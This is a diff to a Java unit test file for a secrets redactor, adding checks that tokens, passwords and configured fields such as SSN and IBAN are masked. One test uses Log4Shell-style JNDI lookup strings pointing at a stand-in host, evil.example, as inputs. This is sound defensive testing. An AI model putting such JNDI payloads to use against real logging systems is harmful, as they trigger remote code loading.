@@ -45,7 +45,6 @@ class RedactorTest {
         "JDBC_URL",
         "WHORL_COLLECTOR_TOKEN",
         "whorl.collector.token",
-        "whorl.collector.token-file",
       })
   void value_secretKey_isMaskedWhole(String key) {
     assertThat(redactor.value(key, "a plain word")).isEqualTo("***");
@@ -63,7 +62,32 @@ class RedactorTest {
 
     assertThat(nothingConfigured.value("WHORL_COLLECTOR_TOKEN", SECRET)).isEqualTo("***");
     assertThat(nothingConfigured.text("-Dwhorl.collector.token=" + SECRET)).doesNotContain(SECRET);
-    assertThat(nothingConfigured.value("DB_PASSWORD", "shown")).isEqualTo("shown");
+  }
+
+  @Test
+  void value_configuredPart_isMaskedBesideTheBuiltInNames() {
+    Redactor configured = new Redactor(List.of("ssn", "iban-no"));
+
+    assertThat(configured.value("customer.SSN", "078-05-1120")).isEqualTo("***");
+    assertThat(configured.text("IBAN_NO=DE02120300000000202051")).isEqualTo("IBAN_NO=***");
+    assertThat(configured.value("DB_PASSWORD", SECRET)).isEqualTo("***");
+  }
+
+  @Test
+  void text_attackInASecretsPlace_staysAndOtherSecretsDoNot() {
+    assertThat(redactor.text("token=abc123secret&x=${jndi:ldap://evil.example/a}"))
+        .isEqualTo("token=***&x=${jndi:ldap://evil.example/a}");
+    assertThat(redactor.text("token=${jndi:ldap://evil.example/a}&password=" + SECRET))
+        .isEqualTo("token=${jndi:ldap://evil.example/a}&password=***");
+    assertThat(redactor.text("token=abc123secret${jndi:ldap://evil.example/a}"))
+        .isEqualTo("token=***${jndi:ldap://evil.example/a}");
+    assertThat(redactor.value("DB_PASSWORD", "x${y}z")).isEqualTo("***");
+  }
+
+  @Test
+  void value_namesAFile_staysAsItIs() {
+    assertThat(redactor.value("whorl.collector.token-file", "/run/secrets/token"))
+        .isEqualTo("/run/secrets/token");
   }
 
   @Test
